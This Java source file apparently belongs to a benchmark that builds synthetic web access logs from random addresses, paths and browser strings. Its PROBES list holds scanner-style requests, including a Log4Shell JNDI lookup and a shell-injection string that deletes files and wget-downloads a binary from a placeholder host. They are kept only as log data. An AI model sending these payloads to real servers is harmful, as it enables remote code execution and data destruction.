package dev.sluice.bench;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.IntFunction;
import java.util.stream.IntStream;

/** What the fields of an {@link AccessLog} are taken from. Each method takes a place from 0 to below 1. Immutable. */
final class Vocabulary {
    static final byte[] DASH = bytes("-");
    static final byte[] GET = bytes("GET ");
    static final byte[] POST = bytes("POST ");
    static final byte[] HEAD = bytes("HEAD ");

    private static final List<String> SYLLABLES = List.of(
            "ka", "lo", "mi", "ner", "tos", "val", "rin", "sol", "par", "den", "gul", "fex", "bra", "cho", "wyn",
            "zed");
    private static final List<String> SECTIONS = List.of(
            "/products/",
            "/static/img/",
            "/static/js/",
            "/api/v2/items/",
            "/blog/2025/",
            "/cart/",
            "/account/",
            "/search/");
    private static final List<String> ENDINGS = List.of("", ".html", ".png", ".js", ".css", ".webp", "/", ".json");
    private static final List<String> PLATFORMS = List.of(
            "Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "X11; Linux x86_64",
            "iPhone; CPU iPhone OS 17_5 like Mac OS X",
            "Linux; Android 14; SM-S918B",
            "Linux; Android 10; K");
    private static final List<String> PROBES = List.of(
            "/wp-login.php",
            "/.env",
            "/.git/config",
            "/xmlrpc.php",
            "/phpmyadmin/index.php",
            "/cgi-bin/luci/;stok=/locale",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/boaform/admin/formLogin?username=ec8&psd=ec8",
            "/?x=${jndi:ldap://203.0.113.9:1389/a}",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws");

    private final byte[][] addresses;
    private final byte[][] users;
    private final byte[][] paths;
    private final byte[][] words;
    private final byte[][] sites;
    private final byte[][] browsers;
    private final byte[][] probes;

    Vocabulary(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        addresses = made(40_000, i -> address(random));
        users = made(900, i -> word(random, 2) + (i % 3 == 0 ? "@shop.example" : ""));
        words = made(6_000, i -> word(random, 1 + random.nextInt(3)));
        paths = made(
                20_000,
                i -> any(SECTIONS, random) + word(random, 2 + random.nextInt(3)) + '-' + i + any(ENDINGS, random));
        sites = made(300, i -> "https://" + word(random, 3) + ".example/s?q=");
        browsers = made(1_500, i -> browser(random));
        probes = PROBES.stream().map(Vocabulary::bytes).toArray(byte[][]::new);
    }

    byte[] address(double place) {
        return at(addresses, place);
    }

    byte[] user(double place) {
        return at(users, place);
    }

    byte[] path(double place) {
        return at(paths, place);
    }

    byte[] word(double place) {
        return at(words, place);
    }

    byte[] site(double place) {
        return at(sites, place);
    }

    byte[] browser(double place) {
        return at(browsers, place);
    }

    byte[] probe(double place) {
        return at(probes, place);
    }

    private static byte[] at(byte[][] words, double place) {
        return words[(int) (place * words.length)];
    }

    private static byte[][] made(int count, IntFunction<String> word) {
        return IntStream.range(0, count).mapToObj(word).map(Vocabulary::bytes).toArray(byte[][]::new);
    }

    private static String address(SplittableRandom random) {
        if (random.nextInt(100) < 12) {
            List<String> groups = new ArrayList<>();
            for (int i = 0; i < 6; i++) {
                groups.add(Integer.toHexString(random.nextInt(1 << 16)));
            }
            return "2001:db8:" + String.join(":", groups);
        }
        return (1 + random.nextInt(222)) + "." + random.nextInt(256) + "." + random.nextInt(256) + "."
                + random.nextInt(256);
    }

    private static String word(SplittableRandom random, int syllables) {
        StringBuilder word = new StringBuilder();
        for (int i = 0; i < syllables; i++) {
            word.append(any(SYLLABLES, random));
        }
        return word.toString();
    }

    private static String browser(SplittableRandom random) {
        int kind = random.nextInt(10);
        String platform = any(PLATFORMS, random);
        int version = 90 + random.nextInt(50);
        if (kind == 0) {
            return "Mozilla/5.0 (compatible; " + word(random, 2) + "bot/" + random.nextInt(4)
                    + ".1; +https://bots.example/" + word(random, 2) + ")";
        }
        if (kind == 1) {
            return word(random, 2) + "/" + version + ".0." + random.nextInt(30);
        }
        if (kind < 4) {
            return "Mozilla/5.0 (" + platform + "; rv:" + version + ".0) Gecko/20100101 Firefox/" + version + ".0";
        }
        return "Mozilla/5.0 (" + platform + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + version + ".0."
                + random.nextInt(6000) + "." + random.nextInt(200) + " Safari/537.36";
    }

    private static String any(List<String> words, SplittableRandom random) {
        return words.get(random.nextInt(words.size()));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
